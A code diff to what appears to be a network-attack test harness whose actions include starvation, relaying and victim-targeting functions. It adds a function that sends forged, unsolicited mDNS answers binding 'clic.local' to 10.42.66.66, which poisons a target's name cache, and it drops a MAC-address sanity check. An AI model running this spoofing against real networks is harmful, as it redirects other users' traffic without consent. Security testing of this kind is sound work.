@@ -139,12 +139,20 @@ def question(box: str, port: str, count: str) -> int:
     return int(count)
 
 
+def answer_unasked(box: str) -> int:
+    """Says by multicast's port that a name is its own, as the box would have to believe; and then asks, as it may."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
+        one.connect((box, 5353))
+        for _ in range(5):
+            one.send(b"\0\0\x84\0\0\0\0\1\0\0\0\0\4clic\5local\0\0\1\x80\1\0\0\0\x78\0\4\x0a\x2a\x42\x42")
+        one.send(b"\0\0\0\0\0\1\0\0\0\0\0\0\4clic\5local\0\0\1\0\1")
+    return 5
+
+
 def overhear(seconds: str) -> list[str]:
-    """Frames of others than the box that come to it: from which stations."""
+    """From which stations frames come to it, such as what they ask everybody."""
     link = Link(interface())
     print("true", flush=True)
-    with open(f"/sys/class/net/{interface()}/address", encoding="ascii") as file:
-        assert file.read().strip() == link.hardware.hex(":")
     return sorted({frame[6:12].hex(":") for frame in link.receive(float(seconds))})
 
 
@@ -165,7 +173,7 @@ def all_at_once(box: str, network: str, victim: str) -> dict[str, Any]:
 
 ACTIONS = {
     action.__name__: action
-    for action in (join, starve, double, relay, hold_from, claim, call, question, overhear, all_at_once)
+    for action in (join, starve, double, relay, hold_from, claim, call, question, answer_unasked, overhear, all_at_once)
 }
 
 
